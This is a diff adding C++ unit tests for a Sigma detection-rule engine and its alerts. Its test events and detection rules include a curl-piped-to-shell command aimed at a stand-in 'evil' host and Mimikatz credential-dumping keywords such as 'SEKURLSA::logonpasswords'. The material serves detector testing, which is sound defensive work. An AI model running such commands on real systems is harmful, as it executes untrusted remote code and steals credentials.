@@ -1,0 +1,223 @@
+// Core language: detection maps, lists, keywords, null/empty, wildcards and escapes,
+// conditions, log-source routing, and the detector's alerts.
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "agent/sigma/sigma_detector.h"
+#include "tests/sigma/sigma_test_util.h"
+
+namespace otasuke::agent::sigma {
+namespace {
+
+using ::testing::ElementsAre;
+using ::testing::IsEmpty;
+using testing::MatchIds;
+using testing::MustCompile;
+using testing::ProcessEvent;
+
+constexpr char kCurlRule[] = R"(
+title: Curl piped to shell
+id: r-curl
+status: test
+level: high
+tags: [attack.execution, attack.t1059.004]
+logsource:
+  product: linux
+  category: process_creation
+detection:
+  selection:
+    Image|endswith: /curl
+    CommandLine|contains|all: ['http', ' | ']
+  filter:
+    User: root
+  condition: selection and not filter
+otasuke:
+  explanation: {ja: "ダウンロードしたスクリプトを実行", en: "A script was downloaded and run"}
+  next_step: {ja: "端末を隔離", en: "Isolate the PC"}
+)";
+
+TEST(SigmaEngine, MapListAndNot) {
+  auto rules = MustCompile(kCurlRule);
+  ASSERT_NE(rules, nullptr);
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/CURL"},
+                                             {"CommandLine", "curl HTTP://x | sh"},
+                                             {"User", "alice"}},
+                                            "linux")),
+              ElementsAre("r-curl"));
+  // Filter excludes root; missing `all` value fails; wrong product never meets the rule.
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"},
+                                             {"CommandLine", "curl http://x | sh"},
+                                             {"User", "root"}},
+                                            "linux")),
+              IsEmpty());
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"},
+                                             {"CommandLine", "curl http://x"}},
+                                            "linux")),
+              IsEmpty());
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "/usr/bin/curl"},
+                                             {"CommandLine", "curl http://x | sh"}},
+                                            "windows")),
+              IsEmpty());
+}
+
+TEST(SigmaEngine, WildcardsEscapesNullAndEmpty) {
+  auto rules = MustCompile(R"(
+title: Wildcards
+id: r-wild
+logsource: {product: windows, category: process_creation}
+detection:
+  sel_glob:
+    Image: 'C:\Windows\\*\cmd?.exe'
+  sel_star_literal:
+    CommandLine: 'echo \*'
+  sel_null:
+    ParentImage: null
+    Image: 'x.exe'
+  sel_empty:
+    OriginalFileName: ''
+    Image: 'y.exe'
+  condition: 1 of sel_*
+)");
+  ASSERT_NE(rules, nullptr);
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "c:\\windows\\system32\\CMD2.exe"}})),
+              ElementsAre("r-wild"));
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "c:\\windows\\system32\\cmd.exe"}})),
+              IsEmpty());
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"CommandLine", "echo *"}})), ElementsAre("r-wild"));
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"CommandLine", "echo a"}})), IsEmpty());
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "x.exe"}})), ElementsAre("r-wild"));
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "x.exe"}, {"ParentImage", "p"}})),
+              IsEmpty());
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "y.exe"}, {"OriginalFileName", ""}})),
+              ElementsAre("r-wild"));
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "y.exe"}})), IsEmpty());
+}
+
+TEST(SigmaEngine, ListOfMapsKeywordsAndAllOfThem) {
+  auto rules = MustCompile(R"(
+title: Lists
+id: r-lists
+logsource: {product: windows, category: process_creation}
+detection:
+  sel_a:
+    - Image|endswith: '\a.exe'
+    - Image|endswith: '\b.exe'
+  sel_kw:
+    - 'mimikatz'
+    - 'sekurlsa'
+  _ignored:
+    Image: nothing
+  condition: all of them
+)");
+  ASSERT_NE(rules, nullptr);
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "C:\\B.EXE"},
+                                             {"CommandLine", "run SEKURLSA::logonpasswords"}})),
+              ElementsAre("r-lists"));
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "C:\\c.exe"}, {"CommandLine", "mimikatz"}})),
+              IsEmpty());
+}
+
+TEST(SigmaEngine, ConditionPrecedenceAndParentheses) {
+  auto rules = MustCompile(R"(
+title: Precedence
+id: r-prec
+logsource: {product: windows, category: process_creation}
+detection:
+  a: {Image: a}
+  b: {User: b}
+  c: {CommandLine: c}
+  condition: not a and b or c
+)");
+  ASSERT_NE(rules, nullptr);
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"User", "b"}})), ElementsAre("r-prec"));
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "a"}, {"User", "b"}})), IsEmpty());
+  EXPECT_THAT(MatchIds(*rules, ProcessEvent({{"Image", "a"}, {"CommandLine", "c"}})),
+              ElementsAre("r-prec"));
+}
+
+TEST(SigmaEngine, LogSourceRouting) {
+  auto rules = MustCompile(R"(
+title: Any windows
+id: r-any
+logsource: {product: windows}
+detection:
+  sel: {Image|endswith: '.exe'}
+  condition: sel
+---
+title: Sysmon only
+id: r-sysmon
+logsource: {product: windows, service: sysmon}
+detection:
+  sel: {Image|endswith: '.exe'}
+  condition: sel
+---
+title: Registry umbrella
+id: r-reg
+logsource: {product: windows, category: registry_event}
+detection:
+  sel: {TargetObject|contains: 'run'}
+  condition: sel
+)");
+  ASSERT_NE(rules, nullptr);
+  Event e = ProcessEvent({{"Image", "a.exe"}});
+  EXPECT_THAT(MatchIds(*rules, e), ElementsAre("r-any"));
+  e.source().service = "sysmon";
+  EXPECT_THAT(MatchIds(*rules, e), ElementsAre("r-any", "r-sysmon"));
+  Event reg;
+  reg.source() = {.product = "windows", .category = "registry_set", .service = "sysmon"};
+  reg.Set(FieldId::kTargetObject, "HKLM\\...\\Run\\x");
+  EXPECT_THAT(MatchIds(*rules, reg), ElementsAre("r-reg"));
+}
+
+class CollectingSink : public AlertSink {
+ public:
+  void Emit(v1::Alert&& alert) override { alerts.push_back(std::move(alert)); }
+  std::vector<v1::Alert> alerts;
+};
+
+TEST(SigmaDetector, EmitsAlertWithRuleRefEvidenceAndSmeText) {
+  auto compiled = CompileSigmaRules({{.path = "r.yml", .content = kCurlRule}},
+                                    {.strict = true, .ruleset_version = "v7"});
+  ASSERT_TRUE(compiled.ok()) << compiled.status();
+  Snapshot<CompiledSigmaRules> snapshot(compiled->rules);
+  SigmaDetector detector(snapshot);
+  CollectingSink sink;
+  Event e = ProcessEvent({{"Image", "/usr/bin/curl"},
+                          {"CommandLine", "curl http://evil | sh"},
+                          {"User", "alice"},
+                          {"ProcessId", "42"},
+                          {"ParentProcessId", "7"},
+                          {"Hashes", "SHA1=aa,SHA256=BEEF"}},
+                         "linux");
+  e.set_time(absl::FromUnixSeconds(1700000000));
+  detector.Inspect(e, sink);
+  ASSERT_EQ(sink.alerts.size(), 1u);
+  const v1::Alert& a = sink.alerts[0];
+  EXPECT_EQ(a.rule().engine(), v1::ENGINE_SIGMA);
+  EXPECT_EQ(a.rule().rule_id(), "r-curl");
+  EXPECT_EQ(a.rule().ruleset_version(), "v7");
+  EXPECT_EQ(a.severity(), v1::SEVERITY_HIGH);
+  EXPECT_EQ(a.title(), "Curl piped to shell");
+  EXPECT_THAT(a.mitre_attack(), ElementsAre("T1059.004"));
+  EXPECT_EQ(a.explanation().en(), "A script was downloaded and run");
+  EXPECT_EQ(a.next_step().ja(), "端末を隔離");
+  EXPECT_EQ(a.process().pid(), 42);
+  EXPECT_EQ(a.process().ppid(), 7);
+  EXPECT_EQ(a.process().image(), "/usr/bin/curl");
+  EXPECT_EQ(a.process().sha256(), "BEEF");
+  EXPECT_EQ(a.event_time().seconds(), 1700000000);
+  EXPECT_THAT(a.raw_evidence(), ::testing::HasSubstr("\"CommandLine\":\"curl http://evil | sh\""));
+  // A reload swaps the rule set: the same detector now sees no rules.
+  snapshot.Publish(MustCompile(R"(
+title: Other
+id: r-other
+logsource: {product: windows}
+detection: {sel: {Image: x}, condition: sel}
+)"));
+  detector.Inspect(e, sink);
+  EXPECT_EQ(sink.alerts.size(), 1u);
+}
+
+}  // namespace
+}  // namespace otasuke::agent::sigma
